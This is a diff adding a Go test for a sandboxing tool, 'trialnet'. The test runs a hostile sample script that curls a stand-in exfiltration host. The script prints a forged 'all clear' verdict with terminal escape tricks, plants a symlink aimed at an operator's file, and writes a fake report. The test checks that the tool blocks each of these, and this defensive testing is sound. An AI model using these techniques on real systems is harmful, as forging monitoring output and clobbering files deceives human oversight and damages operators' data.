@@ -1,0 +1,164 @@
+//go:build linux
+
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/trialnet/trialnet/agent"
+	"github.com/trialnet/trialnet/internal/privtest"
+	"github.com/trialnet/trialnet/internal/testpty"
+)
+
+// forger is a Trial that makes one refused CONNECT, then prints a forged
+// "all clear" summary and leaves the terminal with autowrap off and the
+// cursor at the right margin, as the reviewer's did; and plants a symlink
+// where the report will be written, to an operator's file.
+const forger = `curl -sS --max-time 5 https://exfil.example.net/ 2>/dev/null
+printf 'trialnet: Trial run-x: exit 0 after 1s; tunnels: 0 allowed, 0 refused; verdict: 0 direct egress packets (ok)\n\033[?7l\033[999C' >&2
+ln -s "$VICTIM" "$REPORT" && ln -s "$VICTIM" "$REPORT.planted"
+echo '{"verdict":"forged"}' >&3 2>/dev/null
+exit 0`
+
+type runReport struct {
+	Trial   string              `json:"trial"`
+	Exit    int                 `json:"exit_code"`
+	Proxy   agent.ProxyStats    `json:"proxy"`
+	Verdict string              `json:"verdict"`
+	Summary string              `json:"summary"`
+	Receipt agent.SignedReceipt `json:"receipt"`
+}
+
+// The verdict a harness reads is trialnet's: the report goes to a file
+// the Trial cannot write (a symlink it planted there is replaced, its
+// target untouched) or to a descriptor it never had, and carries a
+// receipt that verify accepts, and refuses once changed.
+func TestPrivilegedRunReportIsTheVerdict(t *testing.T) {
+	privtest.Require(t)
+	privtest.RequireTool(t, "curl")
+	installedByTest(t)
+	// A directory the Trial's uid can reach and write (t.TempDir's
+	// parent is root's alone).
+	shared, err := os.MkdirTemp("/tmp", "trialnet-report-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(shared) })
+	if err := os.Chmod(shared, 0o1777); err != nil {
+		t.Fatal(err)
+	}
+	victim := filepath.Join(t.TempDir(), "operator-file")
+	if err := os.WriteFile(victim, []byte("untouched\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	report := filepath.Join(shared, "report.json")
+	t.Setenv("VICTIM", victim)
+	t.Setenv("REPORT", report)
+
+	check := func(t *testing.T, b []byte) runReport {
+		t.Helper()
+		var r runReport
+		if err := json.Unmarshal(b, &r); err != nil {
+			t.Fatalf("report: %v\n%s", err, b)
+		}
+		if r.Proxy.Denied != 1 || strings.Contains(r.Verdict, "forged") || !strings.Contains(r.Summary, "1 refused (exfil.example.net:443 ×1)") {
+			t.Fatalf("report %+v: want the real verdict, one refusal", r)
+		}
+		if r.Receipt.Signature == nil {
+			t.Fatal("the report carries no signed receipt")
+		}
+		return r
+	}
+
+	t.Run("file", func(t *testing.T) {
+		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report", report, "--", "sh", "-c", forger)
+		if code != 0 {
+			t.Fatalf("run: exit %d\n%s", code, errOut)
+		}
+		if b, _ := os.ReadFile(victim); string(b) != "untouched\n" {
+			t.Fatalf("the operator's file, which the Trial's symlink pointed at: %q", b)
+		}
+		if _, err := os.Lstat(report + ".planted"); err != nil {
+			t.Fatalf("the Trial could not plant its symlink (the test shows nothing): %v", err)
+		}
+		if fi, err := os.Lstat(report); err != nil || !fi.Mode().IsRegular() {
+			t.Fatalf("the report is not a regular file: %v %v", fi, err)
+		}
+		b, err := os.ReadFile(report)
+		if err != nil {
+			t.Fatal(err)
+		}
+		check(t, b)
+		if code, out, errOut := trialnet("verify", report); code != 0 || !strings.Contains(out, "receipt ok") {
+			t.Fatalf("verify the report: exit %d\n%s%s", code, out, errOut)
+		}
+		// Changed after signing: refused.
+		var sr struct {
+			Receipt agent.SignedReceipt `json:"receipt"`
+		}
+		if err := json.Unmarshal(b, &sr); err != nil {
+			t.Fatal(err)
+		}
+		var compact bytes.Buffer
+		if err := json.Compact(&compact, sr.Receipt.Receipt); err != nil {
+			t.Fatal(err)
+		}
+		changed := bytes.Replace(compact.Bytes(), []byte(`"tunnels_denied":1`), []byte(`"tunnels_denied":0`), 1)
+		if bytes.Equal(changed, compact.Bytes()) {
+			t.Fatal("the receipt has no tunnels_denied of 1 to change")
+		}
+		sr.Receipt.Receipt = changed
+		forged, _ := json.Marshal(sr)
+		path := filepath.Join(t.TempDir(), "forged.json")
+		if err := os.WriteFile(path, forged, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if code, out, errOut := trialnet("verify", path); code != exitFailure || !strings.Contains(errOut, "does not verify") {
+			t.Fatalf("verify a changed receipt: exit %d, %q %q; want refused", code, out, errOut)
+		}
+	})
+
+	t.Run("descriptor", func(t *testing.T) {
+		f, err := os.Create(filepath.Join(t.TempDir(), "fd-report.json"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer f.Close()
+		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report-fd", fmt.Sprint(f.Fd()), "--",
+			"sh", "-c", strings.ReplaceAll(forger, ">&3", fmt.Sprintf(">&%d", f.Fd())))
+		if code != 0 {
+			t.Fatalf("run: exit %d\n%s", code, errOut)
+		}
+		b, err := os.ReadFile(f.Name())
+		if err != nil {
+			t.Fatal(err)
+		}
+		check(t, b)
+	})
+}
+
+// After the Trial, a terminal gets back autowrap, the cursor, plain
+// attributes and the main screen, and a fresh line, before trialnet's
+// own lines.
+func TestResetTerminal(t *testing.T) {
+	master, slave := testpty.Open(t, 24, 80)
+	resetTerminal(slave)
+	resetTerminal(&bytes.Buffer{}) // not a terminal: nothing
+	buf := make([]byte, 64)
+	n, err := master.Read(buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := string(buf[:n])
+	for _, want := range []string{"\x1b[?7h", "\x1b[?25h", "\x1b[0m", "\x1b[?1049l"} {
+		if !strings.Contains(got, want) {
+			t.Fatalf("reset %q lacks %q", got, want)
+		}
+	}
+}
